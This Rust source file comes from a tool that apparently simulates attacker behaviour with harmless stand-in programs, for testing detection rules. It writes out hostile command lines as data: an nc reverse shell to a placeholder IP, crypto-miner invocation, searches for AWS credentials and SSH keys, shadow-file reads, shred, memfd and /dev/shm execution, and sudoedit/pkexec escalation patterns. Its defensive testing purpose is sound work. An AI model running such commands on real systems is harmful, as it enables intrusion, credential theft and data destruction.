//! Actions that run programs. The programs are ones that do nothing, or eyas itself under another name where a program has to
//! start another one: rules see names, arguments and who started whom, and none of the real programs is needed or run.

use std::io::{self, Write};
use std::os::unix::process::CommandExt;
use std::thread::sleep;
use std::time::Duration;

use rustix::fs::MemfdFlags;

use super::super::action::Step;
use super::super::stage::{Stage, finish, write_program};
use super::{files, quiet, system};

/// What other programs do in these actions.
pub(crate) const PARTS: &[(&str, Step)] = &[
    ("run-id", |stage| finish(&mut stage.program("id")?)),
    ("run-bash", |stage| finish(stage.program("bash")?.args(["-c", "ls"]))),
    ("run-bash-i", |stage| finish(stage.program("bash")?.arg("-i"))),
    ("read-shadow-late", |stage| {
        sleep(Duration::from_secs(6));
        files::read_shadow(stage)
    }),
    ("read-by-traversal", files::read_by_traversal),
    ("read-library", files::read_library),
    ("sudoedit-as-daemon", |stage| {
        system::become_daemon()?;
        Err(stage.ready_program("sudoedit").args(["-s", "\\"]).exec())
    }),
    ("pkexec-as-daemon", |stage| {
        system::become_daemon()?;
        Err(stage.ready_program("pkexec").exec())
    }),
    ("log-in", |stage| finish(&mut stage.player("session", "bash-as-daemon")?)),
    ("bash-as-daemon", |stage| {
        system::become_daemon()?;
        Err(stage.ready_program("bash").exec())
    }),
];

pub(crate) fn mysqld_runs_id(stage: &Stage) -> io::Result<()> {
    finish(&mut stage.player("mysqld", "run-id")?)
}

pub(crate) fn redis_runs_bash(stage: &Stage) -> io::Result<()> {
    finish(&mut stage.player("redis-server", "run-bash")?)
}

pub(crate) fn httpd_reads_shadow_late(stage: &Stage) -> io::Result<()> {
    finish(&mut stage.player("httpd", "read-shadow-late")?)
}

pub(crate) fn nginx_traverses(stage: &Stage) -> io::Result<()> {
    finish(&mut stage.player("nginx", "read-by-traversal")?)
}

pub(crate) fn sshd_opens_library(stage: &Stage) -> io::Result<()> {
    finish(&mut stage.player("sshd", "read-library")?)
}

pub(crate) fn gunicorn_runs_bash(stage: &Stage) -> io::Result<()> {
    finish(&mut stage.player("gunicorn", "run-bash")?)
}

pub(crate) fn gunicorn_runs_bash_i(stage: &Stage) -> io::Result<()> {
    finish(&mut stage.player("gunicorn", "run-bash-i")?)
}

pub(crate) fn gunicorn_runs_id(stage: &Stage) -> io::Result<()> {
    finish(&mut stage.player("gunicorn", "run-id")?)
}

pub(crate) fn echo_stratum(stage: &Stage) -> io::Result<()> {
    finish(stage.program("echo")?.args(["-o", "stratum+tcp://192.0.2.1:3333"]))
}

pub(crate) fn run_xmrig(stage: &Stage) -> io::Result<()> {
    finish(&mut stage.program("xmrig")?)
}

pub(crate) fn run_from_dev_shm(stage: &Stage) -> io::Result<()> {
    let path = stage.outside("/dev/shm")?;
    write_program(&path)?;
    // Where such a directory forbids execution, that it was tried is enough.
    match std::process::Command::new(path).status() {
        Err(error) if error.kind() == io::ErrorKind::PermissionDenied => Ok(()),
        ended => ended.map(drop),
    }
}

pub(crate) fn run_from_memory(_: &Stage) -> io::Result<()> {
    use std::os::fd::AsRawFd;
    let file = rustix::fs::memfd_create("program", MemfdFlags::CLOEXEC)?;
    let mut file = std::fs::File::from(file);
    file.write_all(quiet::PROGRAM)?;
    // Executed from a child, in which the descriptor is still open when the kernel resolves the path.
    finish(&mut std::process::Command::new(format!("/proc/self/fd/{}", file.as_raw_fd())))
}

pub(crate) fn find_aws_credentials(stage: &Stage) -> io::Result<()> {
    let dir = stage.path("");
    finish(stage.program("find")?.arg(dir).args(["-iname", ".aws/credentials"]))
}

pub(crate) fn find_private_keys(stage: &Stage) -> io::Result<()> {
    let dir = stage.path("");
    finish(stage.program("find")?.arg(dir).args(["-maxdepth", "1", "-iname", "id_rsa"]))
}

pub(crate) fn run_nmap(stage: &Stage) -> io::Result<()> {
    finish(stage.program("nmap")?.args(["-sn", "192.0.2.1"]))
}

pub(crate) fn run_nc_with_shell(stage: &Stage) -> io::Result<()> {
    finish(stage.program("nc")?.args(["-e", "/bin/sh", "192.0.2.1", "4444"]))
}

pub(crate) fn run_shred(stage: &Stage) -> io::Result<()> {
    let file = stage.path("file");
    finish(stage.program("shred")?.arg("-u").arg(file))
}

/// Beside the program a file where such jobs lie, but where no daemon looks for any: the rules that watch files see it.
pub(crate) fn schedule_cron_job(stage: &Stage) -> io::Result<()> {
    std::fs::File::create(stage.outside("/var/spool/cron")?)?;
    finish(stage.program("crontab")?.arg("-l"))
}

pub(crate) fn run_usermod(stage: &Stage) -> io::Result<()> {
    finish(stage.program("usermod")?.args(["--shell", "/bin/false", "nobody"]))
}

pub(crate) fn run_with_tunables(stage: &Stage) -> io::Result<()> {
    finish(stage.program("program")?.env("GLIBC_TUNABLES", "glibc.malloc.check=0"))
}

pub(crate) fn curl_with_proxy(stage: &Stage) -> io::Result<()> {
    finish(stage.program("curl")?.env("HTTP_PROXY", "http://192.0.2.1:3128"))
}

pub(crate) fn sudoedit_as_daemon(stage: &Stage) -> io::Result<()> {
    system::login_user_is_not_root()?;
    stage.program("sudoedit")?;
    finish(&mut stage.player("session", "sudoedit-as-daemon")?)
}

pub(crate) fn pkexec_as_daemon(stage: &Stage) -> io::Result<()> {
    system::login_user_is_not_root()?;
    stage.program("pkexec")?;
    finish(&mut stage.player("session", "pkexec-as-daemon")?)
}

pub(crate) fn daemon_logs_in(stage: &Stage) -> io::Result<()> {
    system::take_terminal()?;
    stage.program("bash")?;
    finish(&mut stage.player("sshd", "log-in")?)
}

pub(crate) fn look_round_on_terminal(stage: &Stage) -> io::Result<()> {
    system::take_terminal()?;
    finish(stage.program("whoami")?.process_group(0))
}
